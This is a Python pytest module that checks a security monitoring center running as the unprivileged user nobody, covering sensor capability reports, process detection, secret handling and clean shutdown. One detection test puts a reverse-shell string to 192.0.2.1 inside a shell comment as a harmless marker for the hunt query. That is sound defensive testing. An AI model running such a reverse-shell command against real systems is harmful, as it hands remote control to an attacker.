"""A center run by an ordinary user: what needs privileges is named, everything else works."""

import contextlib
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import sys
import sysconfig
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from running_center import START_SECONDS_MAX, RunningCenter, environment, free_port, until

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(os.geteuid() != 0, reason="becoming another user needs root"),
    pytest.mark.skipif(shutil.which("setpriv") is None, reason="setpriv (util-linux) is not installed"),
]

ROOT = Path(__file__).resolve().parents[2]
NOBODY = 65534
# What setpriv itself executes is still looked up with root's capabilities, hence a shell in between.
DROP = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--inh-caps=-all"]
DROP += ["--", "/bin/sh", "-c", 'exec "$0" "$@"']


def as_nobody(command: list[str], home: Path) -> subprocess.CompletedProcess[str]:
    """Run a command to its end as a user who owns nothing but ``home``."""
    return subprocess.run(
        [*DROP, *command],
        cwd=home,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=environment_of(home),
    )


def environment_of(home: Path) -> dict[str, str]:
    return environment() | {"HOME": str(home), "PYTHONDONTWRITEBYTECODE": "1"}


def interpreter(folder: Path, home: Path) -> str:
    """A Python that user may run, with this checkout and its dependencies; skips where there is none."""
    name = f"python{sys.version_info.major}.{sys.version_info.minor}"
    candidates = [str(Path(sys.executable).resolve()), f"/usr/bin/{name}", f"/usr/local/bin/{name}"]
    for candidate in candidates:
        if not Path(candidate).exists() or as_nobody([candidate, "-c", ""], home).returncode:
            continue
        subprocess.run([candidate, "-m", "venv", "--without-pip", str(folder)], check=True)
        packages = folder / "lib" / name / "site-packages"
        (packages / "checkout.pth").write_text(f"{ROOT}\n{sysconfig.get_paths()['purelib']}\n")
        python = str(folder / "bin" / "python")
        if as_nobody([python, "-c", "import soc_api.cli, msgspec"], home).returncode == 0:
            return python
    pytest.skip("another user can run no Python with this checkout's dependencies here")


class Unprivileged(RunningCenter):
    """A running center of the user nobody."""

    def liuhe(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        """Run ``liuhe`` as the same user."""
        return as_nobody([self.arguments[0], "-m", "soc_api.cli", *arguments], self.output.parent)

    def sources(self, kind: str) -> dict[str, tuple[str, str]]:
        """State and reason of a local sensor's sources by name."""
        done = self.liuhe("sensor", "status", "--json", "--data", str(self.data / "sensors" / kind))
        if done.returncode:
            return {}
        found = json.loads(done.stdout).get("sources", [])
        return {one["name"]: (one["state"], json.dumps(one["detail"])) for one in found}


@pytest.fixture(scope="module")
def unprivileged() -> Iterator[Unprivileged]:
    """The center; pytest's own folders are closed to other users, so it gets one of its own."""
    base = Path(tempfile.mkdtemp(prefix="liuhe-unprivileged-"))
    base.chmod(0o755)
    home = base / "home"
    home.mkdir()
    os.chown(home, NOBODY, NOBODY)
    process = None
    try:
        python = interpreter(base / "venv", home)
        data, output = home / "center", home / "output"
        ports = [free_port(), free_port()]
        command = [python, "-m", "soc_api.cli", "center", "run", "--init", "--local-sensors"]
        command += ["--data", str(data), "--console-port", str(ports[0]), "--ingest-port", str(ports[1])]
        with output.open("w") as file:
            process = subprocess.Popen(
                [*DROP, *command],
                cwd=home,
                stdout=file,
                stderr=file,
                text=True,
                env=environment_of(home),
                start_new_session=True,
            )
        running = process
        found = until(
            lambda: (
                running.poll() is not None or re.search(r"user (\S+)\s+password (\S+)", output.read_text())
            ),
            START_SECONDS_MAX,
        )
        assert isinstance(found, re.Match), output.read_text()
        yield Unprivileged(
            data=data,
            url=f"http://127.0.0.1:{ports[0]}/",
            user=found[1],
            password=found[2],
            process=process,
            output=output,
            arguments=command,
        )
    finally:
        if process is not None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, signal.SIGKILL)
            process.wait()
        shutil.rmtree(base, ignore_errors=True)


def test_the_sensors_name_what_they_may_not_do(unprivileged: Unprivileged) -> None:
    network = until(
        lambda: {name: one for name, one in unprivileged.sources("network").items() if "capture" in name}, 30
    )
    assert isinstance(network, dict)
    for state, why in network.values():
        assert state == "missing"
        assert "CAP_NET_RAW" in why
    host = unprivileged.sources("host")
    if Path("/var/log/btmp").exists():
        state, why = host["logins:btmp"]
        assert state == "missing"
        assert "permission" in why


def test_the_rest_goes_on_and_execs_are_seen_by_polling(unprivileged: Unprivileged) -> None:
    until(lambda: unprivileged.sources("host").get("processes", ("", ""))[0] == "running", 30, step=1)

    def seen() -> bool:
        subprocess.run(
            ["/bin/sh", "-c", "sleep 2 # unprivileged-mark bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
            check=True,
        )
        arguments = ["--limit", "1", "--since", "1h", "--data", str(unprivileged.data)]
        found = unprivileged.liuhe("hunt", "process.command_line:*unprivileged-mark*", *arguments)
        return "unprivileged-mark" in found.stdout

    until(seen, 60)
    status = json.loads(
        unprivileged.liuhe("center", "status", "--json", "--data", str(unprivileged.data)).stdout
    )
    assert status["serving"]
    assert status["sensors_online"] == 2


def test_no_secret_is_in_a_command_line_and_nothing_is_open_to_others(unprivileged: Unprivileged) -> None:
    secret = unprivileged.password.encode()
    for folder in Path("/proc").iterdir():
        if folder.name.isdecimal():
            with contextlib.suppress(OSError):
                assert secret not in (folder / "cmdline").read_bytes()
    assert stat.S_IMODE(unprivileged.data.stat().st_mode) == 0o700
    for path in unprivileged.data.rglob("*"):
        with contextlib.suppress(FileNotFoundError):
            if not path.is_file():
                continue
            assert secret not in path.read_bytes(), path
            if path.suffix == ".key" or path.name == "ledger.pem":
                assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_it_stops_calmly(unprivileged: Unprivileged) -> None:
    unprivileged.process.send_signal(signal.SIGINT)
    assert unprivileged.process.wait(20) == 0, unprivileged.output.read_text()
    said = unprivileged.output.read_text()
    assert "Traceback" not in said
    assert "restarting" not in said
    for log in (unprivileged.data / "logs").iterdir():
        assert "Traceback" not in log.read_text(errors="replace"), log.name
